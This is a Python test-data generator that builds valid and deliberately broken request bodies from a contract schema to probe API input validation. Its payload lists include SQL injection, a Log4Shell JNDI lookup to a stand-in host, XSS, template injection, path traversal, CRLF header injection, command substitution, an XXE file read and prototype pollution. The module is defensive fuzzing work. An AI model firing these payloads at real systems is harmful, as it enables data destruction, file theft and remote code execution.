"""Bodies of requests, right and wrong, made from a contract: fields at and beyond their limits."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

from contracts.contract import Contract
from contracts.schema import schema_of

# What is no object with the fields of a contract, and mostly no JSON.
WHOLE = {
    "empty": "",
    "spaces": "  \n\t ",
    "null": "null",
    "true": "true",
    "a number": "1",
    "a text": '"text"',
    "an empty list": "[]",
    "an empty object": "{}",
    "a list of an object": "[{}]",
    "not JSON": "lines=1&quantity=2",
    "XML": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "cut off": '{"lines": [',
    "a comma too many": '{"a": 1,}',
    "single quotes": "{'a': 1}",
    "a comment": "{} // nothing",
    "two values": "{}{}",
    "deep": "[" * 100_000 + "]" * 100_000,
    "NUL": "\0",
    "a byte order mark": "\ufeff{}",
    "NaN": "NaN",
    "__proto__": '{"__proto__": {"isAgent": true}}',
}
INJECTED = (
    "'; DROP TABLE orders; --",
    "1 OR 1=1",
    "$" + "{jndi:ldap://x.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "$context.authorizer.claims.sub",
    "../../etc/passwd",
    "a\r\nSet-Cookie: b=c",
    "%00",
    "`id`",
)
UNICODE = ("é", "日本語", "👩\u200d🔬", "\u202eabc", "\ufeff", "a\0b", "a\n", "\x7f", "²", "١")
KINDS: tuple[Any, ...] = (None, True, False, 0, -1, 1, 1.5, 10**40, "1", "", [], {}, [[]], ["a"])
DAYS = (
    *("1970-01-01", "1969-12-31", "2099-12-31", "2100-01-01", "0000-00-00", "2026-02-30"),
    *("2024-02-29", "2026-02-29", "2000-02-29", "2026-13-01", "2026-11-31", "2026-1-1"),
    *("2026-11-21T00:00:00Z", "20261121", " 2026-11-21", "9999-12-31"),
)


def bodies(contract: type[Contract], right: dict[str, Any]) -> dict[str, str]:
    """Texts by name; ``right`` is a valid body, of which each text changes one place."""
    schema = schema_of(contract)
    found = {**WHOLE, "right": json.dumps(right), "one more field": json.dumps({**right, "x": 1})}
    found["every field twice"] = json.dumps(right)[:-1] + ", " + json.dumps(right)[1:]
    for path, name, value in _changes(schema, schema.get("$defs", {}), right, ()):
        where = ".".join(map(str, path))
        found[f"{where}: {name}"] = json.dumps(_changed(right, path, value))
    return found


MISSING: Any = object()


def _changes(
    schema: dict[str, Any], named: dict[str, Any], value: Any, path: tuple[Any, ...]
) -> Iterator[tuple[tuple[Any, ...], str, Any]]:
    """Each place, what is done there, and the value that it gets."""
    schema = _only(schema, named)
    for name, part in schema.get("properties", {}).items():
        here, inner = (*path, name), _only(part, named)
        yield here, "missing", MISSING
        yield here, "misspelt", {f"{name}_": value.get(name)}
        for each in (*KINDS, *_at_limits(inner, value.get(name))):
            yield here, _named(each), each
        yield from _changes(inner, named, value.get(name), here)
    if schema.get("type") == "array" and value:
        yield (*path, 0), "one more field", {**value[0], "x": 1}
        for each in KINDS:
            yield (*path, 0), f"entry {_named(each)}", each
        yield from _changes(schema["items"], named, value[0], (*path, 0))


def _only(schema: dict[str, Any], named: dict[str, Any]) -> dict[str, Any]:
    """A schema without its reference, and of an optional one that which is not null."""
    for choice in schema.get("anyOf", []):
        if choice.get("type") != "null":
            return _only(choice, named)
    reference = schema.get("$ref", "").rpartition("/")[2]
    return named[reference] if reference else schema


def _at_limits(schema: dict[str, Any], value: Any) -> Iterator[Any]:
    match schema.get("type"):
        case "integer":
            for limit in (schema.get("minimum"), schema.get("maximum"), 2**31, 2**53, 2**63):
                if limit is not None:
                    yield from (limit - 1, limit, limit + 1, float(limit), str(limit))
        case "array" if value:
            for size in {schema.get("minItems", 0), schema.get("maxItems", 0)}:
                yield from ([value[0]] * n for n in (size - 1, size, size + 1) if n >= 0)
        case "string":
            for size in {schema.get("minLength", 1), schema.get("maxLength", 10)}:
                yield from ("A" * n for n in (size - 1, size, size + 1) if n >= 0)
                yield "日" * size
            for choice in schema.get("enum", []):
                yield from (choice, choice.upper(), f" {choice}", f"{choice}\n")
            yield from (*INJECTED, *UNICODE, "x" * 100_000)
            if schema.get("format") == "date":
                yield from DAYS


def _changed(right: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    """A body with another value at a place, or without it."""
    body = copy.deepcopy(right)
    *above, last = path
    place: Any = body
    for step in above:
        place = place[step]
    if value is MISSING:
        place.pop(last, None)
    elif isinstance(value, dict) and list(value) == [f"{last}_"]:
        place.pop(last, None)
        place |= value
    else:
        place[last] = value
    return body


def _named(value: Any) -> str:
    text = json.dumps(value)
    return text if len(text) < 60 else f"{text[:50]}… of {len(text)}"
